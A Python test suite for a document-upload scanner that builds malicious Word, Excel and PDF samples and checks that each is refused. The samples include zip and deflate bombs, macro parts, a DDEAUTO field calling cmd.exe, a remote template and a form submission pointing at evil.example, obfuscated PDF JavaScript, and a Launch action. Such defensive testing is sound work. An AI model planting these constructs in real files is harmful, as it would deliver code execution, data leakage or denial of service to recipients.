"""What hides in a document that is of its type: bombs, macros, objects, scripts, passwords, other files."""

import io
import struct
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.features.forms.attachments import office_rules as office
from chalicelib.features.forms.attachments import pdf_rules as pdf
from chalicelib.features.forms.attachments import type_rules as types
from tests.features.forms.test_attachment_rules import DOCX, PDF, XLSX

TYPES_PART = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MB = 1024 * 1024


def problem(data: bytes, content_type: str = PDF) -> str | None:
    return types.check_content(data, content_type=content_type, size_bytes=len(data))


def docx(**more: bytes) -> bytes:
    return package("word/document.xml", **more)


def package(main: str, **more: bytes) -> bytes:
    """Make an office document; `more` are its other parts, with __ for / and _dot_ for a dot in their names."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        parts = {"[Content_Types].xml": TYPES_PART, main: b"<w:document/>"}
        parts |= {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()}
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


class TestOffice:
    def test_of_ordinary_parts_is_taken(self) -> None:
        noise = bytes(range(256)) * 4096
        chart = package("xl/workbook.xml", xl__sheet_dot_xml=b"<sheet/>")
        assert (
            problem(docx(word__media__a_dot_png=b"\x89PNG" + noise, word__embeddings__c_dot_xlsx=chart), DOCX) is None
        )
        rows = b"<row><c><v>15000.00</v></c></row>" * 200_000  # 6 MB that pack well
        assert problem(package("xl/workbook.xml", xl__sheet_dot_xml=rows), XLSX) is None

    def test_a_bomb_below_the_absolute_limit_is_refused(self) -> None:
        bomb = docx(word__media__a_dot_png=bytes(150 * MB))
        assert len(bomb) < 200_000
        assert problem(bomb, DOCX) == "it is not a Word document: it unpacks to more than any document needs"

    def test_a_bomb_that_lies_about_its_size_is_refused(self) -> None:
        data = bytearray(docx(word__media__a_dot_png=bytes(60 * MB)))
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            at = data.rfind(
                signature,
                0,
                data.rfind(b"word/media/a.png") if signature == b"PK\x01\x02" else data.find(b"word/media/a.png"),
            )
            struct.pack_into("<I", data, at + offset, 100)
        assert problem(bytes(data), DOCX) == "it is not a Word document: it unpacks to more than any document needs"
        small = bytearray(docx(word__media__a_dot_png=b"x" * 1000))
        struct.pack_into("<I", small, small.rfind(b"PK\x01\x02") + 24, 999)
        assert "as long as it claims" in str(problem(bytes(small), DOCX))

    def test_a_bomb_of_overlapping_parts_is_refused(self) -> None:
        data = bytearray(docx(a=b"x" * 1000, b=b"x" * 1000))
        last = data.rfind(b"PK\x01\x02")
        before = data.rfind(b"PK\x01\x02", 0, last)
        data[last + 42 : last + 46] = data[before + 42 : before + 46]  # where the part begins
        assert "overlap" in str(problem(bytes(data), DOCX)) or "damaged" in str(problem(bytes(data), DOCX))

    @pytest.mark.parametrize(("part", "detail"), [
        ({"word__vbaProject_dot_bin": b"x"}, "macros"),
        ({"xl__macrosheets__s_dot_xml": b"<x/>"}, "macros"),
        ({"word__a_dot_bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}, "embedded object"),
        ({"word__media__a_dot_png": b"MZ\x90\x00"}, "a program"),
        ({"word___rels__settings_dot_xml_dot_rels":
          b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>'},
         "fetch a template"),
        ({"word__styles_dot_xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}, "entities"),
        ({"word__styles_dot_xml": '<!DOCTYPE x><x/>'.encode("utf-16")}, "entities"),
        ({"word__footer_dot_xml": b'<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe </w:instrText>'}, "DDE"),
        ({"word___rels__document_dot_xml_dot_rels": b'<Relationship Type="http://x/vbaProject" Target="a.bin"/>'},
         "macros"),
    ], ids=str)  # fmt: skip
    def test_what_acts_is_refused(self, part: dict[str, bytes], detail: str) -> None:
        assert detail in str(problem(docx(**part), DOCX))

    def test_a_link_is_taken(self) -> None:
        link = b'<Relationship Type="http://x/hyperlink" Target="https://bank.example" TargetMode="External"/>'
        assert problem(docx(word___rels__document_dot_xml_dot_rels=link), DOCX) is None

    def test_an_archive_inside_is_looked_into(self) -> None:
        macros = package("xl/workbook.xml", xl__vbaProject_dot_bin=b"x")
        assert "macros" in str(problem(docx(word__embeddings__c_dot_xlsx=macros), DOCX))
        deep = docx(a=docx(b=docx()))
        assert "archives inside archives" in str(problem(deep, DOCX))
        plain = io.BytesIO()
        with zipfile.ZipFile(plain, "w") as archive:
            archive.writestr("setup.exe", b"x")
        assert "another archive" in str(problem(docx(a=plain.getvalue()), DOCX))
        bomb = package("xl/workbook.xml", a=bytes(40 * MB))
        assert "unpacks to more" in str(problem(docx(a=bomb), DOCX))

    def test_an_encrypted_part_is_refused(self) -> None:
        data = bytearray(docx())
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            data[data.rfind(signature) + offset] |= 1
        assert "encrypted" in str(problem(bytes(data), DOCX))

    @given(place=st.integers(0, len(docx(a=b"abc" * 50)) - 1), noise=st.binary(max_size=40))
    def test_noise_raises_nothing(self, place: int, noise: bytes) -> None:
        good = docx(a=b"abc" * 50)
        assert isinstance(
            office.check_document(good[:place] + noise + good[place + 8 :], "word/document.xml"), str | None
        )


def paper(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    parts = [b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, start=1)]
    return b"%PDF-1.7\n" + b"".join(parts) + b"trailer " + trailer + b"\n%%EOF"


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (head, len(content), content)


CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
SCRIPT = b"<</S /JavaScript /JS (app.alert(1))>>"


def object_stream(content: bytes, head: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") -> bytes:
    return stream(zlib.compress(content), head)


class TestPdf:
    @pytest.mark.parametrize("document", [
        paper(CATALOG),
        paper(b"<</Type /Catalog /OpenAction [3 0 R /FitH null]>>"),
        paper(b"<</Type /Catalog /OpenAction 2 0 R>>", b"<</S /GoTo /D [3 0 R /Fit]>>"),
        paper(b"<</Type /Catalog /OpenAction <</S /GoTo /D [3 0 R /Fit]>> >>"),
        paper(CATALOG, b"<</S /URI /URI (https://bank.example)>>"),
        paper(CATALOG, stream(zlib.compress(b"BT (about /JavaScript) Tj ET"), b"/Filter /FlateDecode")),
        paper(CATALOG, object_stream(b"3 0 <</Type /Page>>")),
        paper(CATALOG, stream(b"\xff\xd8/JS /AA " * 20, b"/Filter /DCTDecode /Subtype /Image")),
    ], ids=range(8))  # fmt: skip
    def test_of_pages_and_links_is_taken(self, document: bytes) -> None:
        assert problem(document) is None

    @pytest.mark.parametrize(("document", "detail"), [
        (paper(CATALOG, SCRIPT), "a script"),
        (paper(CATALOG, b"<</S /J#61vaScript /J#53 (x)>>"), "a script"),
        (paper(CATALOG, b"<</S/#4a#61#76#61#53#63#72#69#70#74/JS 5 0 R>>"), "a script"),
        (paper(CATALOG, object_stream(b"3 0 " + SCRIPT)), "a script"),
        (paper(CATALOG, object_stream(b"3 0 <</S /J#61vaScript>>")), "a script"),
        (paper(CATALOG, object_stream(b"3 0 " + SCRIPT, b"/N 1 /First 4 /Filter [/FlateDecode]")), "a script"),
        (paper(CATALOG, object_stream(b"3 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4 /Filt#65r /Fl#61teDecode")),
         "a script"),
        (paper(CATALOG, stream(zlib.compress(zlib.compress(b"3 0 " + SCRIPT)),
                               b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]")), "a script"),
        (paper(CATALOG, stream(zlib.compress(b"3 0 " + SCRIPT).hex().encode() + b">",
                               b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")), "a script"),
        (paper(CATALOG, stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode")), "cannot be looked at"),
        (paper(CATALOG, stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter 9 0 R")), "cannot be looked at"),
        (paper(CATALOG, object_stream(b"3 0 x", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
                                      b" /DecodeParms <</Predictor 12>>")), "cannot be looked at"),
        # an object that the cross-reference finds inside another stream's bytes
        (paper(CATALOG, stream(b"9 0 obj\n<</S /JavaScript /JS (x)>>\nendobj")), "a script"),
        (paper(b"<</Type /Catalog /OpenAction <</S /URI /URI (https://evil.example)>> >>"), "when it is opened"),
        (paper(b"<</Type /Catalog /OpenAction 2 0 R>>", b"<</S /URI /URI (x)>>"), "when it is opened"),
        (paper(CATALOG, b"<</S /Launch /F (cmd.exe)>>"), "a program"),
        (paper(CATALOG, b"<</Type /EmbeddedFile>>"), "other files"),
        (paper(b"<</Names <</EmbeddedFiles 4 0 R>> >>"), "other files"),
        (paper(CATALOG, object_stream(b"3 0 <</Type /Filespec /EF <</F 5 0 R>> /Type /EmbeddedFile>>")), "other files"),
        (paper(CATALOG, b"<</S /SubmitForm /F (https://evil.example)>>"), "elsewhere"),
        (paper(b"<</AcroForm <</XFA 4 0 R>> >>"), "a script"),
        (paper(b"<</Type /Page /AA <</O 4 0 R>> >>"), "by itself"),
        (paper(CATALOG, trailer=b"<</Root 1 0 R /Encrypt 5 0 R>>"), "encrypted"),
        (paper(CATALOG, stream(zlib.compress(b"x"), b"/Type /XRef /Encrypt 5 0 R /Filter /FlateDecode")), "encrypted"),
        (paper(CATALOG, stream(zlib.compress(bytes(250 * MB)), b"/Filter /FlateDecode")), "unpacks to more"),
        (paper(CATALOG, object_stream(bytes(40 * MB))), "unpacks to more"),
    ])  # fmt: skip
    def test_that_does_more_is_refused(self, document: bytes, detail: str) -> None:
        assert detail in str(problem(document))

    @given(st.binary(max_size=300))
    def test_noise_raises_nothing(self, noise: bytes) -> None:
        document = paper(CATALOG, object_stream(b"3 0 " + noise), stream(noise, b"/Filter /FlateDecode"))
        assert isinstance(pdf.check_pdf(document + noise), str | None)
        assert isinstance(pdf.check_pdf(b"%PDF-" + noise + b" stream\n" + noise), str | None)
